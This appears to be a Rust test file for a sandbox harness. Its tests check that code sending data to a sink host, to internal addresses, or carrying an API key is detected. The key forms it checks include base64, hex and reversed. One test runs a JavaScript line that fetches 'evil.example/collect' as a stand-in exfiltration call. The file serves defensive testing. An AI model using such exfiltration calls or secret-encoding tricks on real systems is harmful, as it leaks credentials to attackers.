//! The world itself: it must see what no case may do, or every other test proves less than it says.

use super::Scene;
use crate::house::world::{API_KEY, Only, World, secrets_in};
use base64::Engine;
use std::io::{Read, Write};
use std::net::TcpStream;

/// Asks `address` in plain text; the answer's body.
fn get(address: &str, path: &str, headers: &str) -> String {
    let mut stream = TcpStream::connect(address).expect("connected");
    write!(stream, "GET {path} HTTP/1.1\r\nhost: evil.example\r\n{headers}\r\n").expect("sent");
    stream.shutdown(std::net::Shutdown::Write).expect("half closed");
    let mut text = String::new();
    stream.read_to_string(&mut text).expect("an answer");
    text.rsplit("\r\n\r\n").next().unwrap_or_default().to_owned()
}

#[test]
fn what_reaches_the_sink_or_the_inside_or_carries_a_secret_is_seen() {
    let world = World::start();
    assert_eq!(get("127.0.9.1:80", "/text", ""), "hello");
    assert_eq!(world.complaints(), Vec::<String>::new());
    let inside = ["127.0.9.2:80", "127.0.0.1:80", "127.0.0.2:80"].map(|address| get(address, "/", ""));
    assert_eq!((inside, world.complaints().len()), (["SINK", "INSIDE", "INSIDE"].map(str::to_owned), 3));
    world.forget();
    // Over plain text, even the right header of the right host leaks.
    get("127.0.9.1:80", "/echo", &format!("authorization: Bearer {API_KEY}\r\n"));
    assert_eq!(world.complaints().len(), 1, "{:?}", world.complaints());
    let reversed: String = API_KEY.chars().rev().collect();
    get("127.0.9.1:80", &format!("/echo?{reversed}"), "");
    assert_eq!(world.complaints().len(), 2, "{:?}", world.complaints());
    drop(world);
    let _only = Only::take();
    for port in ["127.0.9.1:80", "127.0.9.1:443", "127.0.9.2:80", "127.0.0.2:443"] {
        assert!(TcpStream::connect(port).is_err(), "{port} is still there");
    }
}

#[test]
fn a_secret_is_known_in_each_of_its_forms_and_nothing_else_is() {
    let packed = |text: String| base64::engine::general_purpose::STANDARD.encode(text);
    let packed = ["", "a", "ab", "abc", "user:"].map(|before| packed(format!("{before}{API_KEY} and more")));
    let reversed: String = API_KEY.chars().rev().collect();
    for form in packed.into_iter().chain([API_KEY.to_owned(), hex::encode(API_KEY), hex::encode_upper(API_KEY), reversed]) {
        assert_eq!(secrets_in(&format!("before {form} after")), ["API_KEY"], "{form}");
    }
    assert!(secrets_in(&API_KEY[1..]).is_empty() && secrets_in("canary-").is_empty());
}

#[test]
fn the_sink_answers_whom_a_rule_lets_through() {
    let scene = Scene::start("");
    let code = "return await (await fetch('https://evil.example/collect')).text();";
    assert_eq!(scene.result("lax", code), "SINK");
    let complaints = scene.world.complaints();
    let about = |word: &str| complaints.iter().any(|what| what.contains(word));
    assert!(about("/collect") && about("evil.example was resolved"), "{complaints:?}");
    scene.world.forget();
    assert_eq!(scene.run("wide", code)["outcome"], "exception");
    assert_eq!(scene.world.complaints(), Vec::<String>::new());
}
